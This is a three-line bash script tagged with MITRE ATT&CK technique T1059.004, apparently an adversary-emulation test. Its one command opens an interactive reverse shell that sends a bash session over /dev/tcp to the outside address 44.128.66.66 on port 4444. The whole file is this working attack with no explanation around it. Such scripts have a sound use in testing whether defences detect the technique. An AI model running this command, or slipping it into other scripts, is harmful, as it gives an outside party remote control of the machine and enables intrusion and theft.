#!/bin/bash
# T1059.004: A shell talks to a port outside.
bash -c 'bash -i >& /dev/tcp/44.128.66.66/4444 0>&1' </dev/null
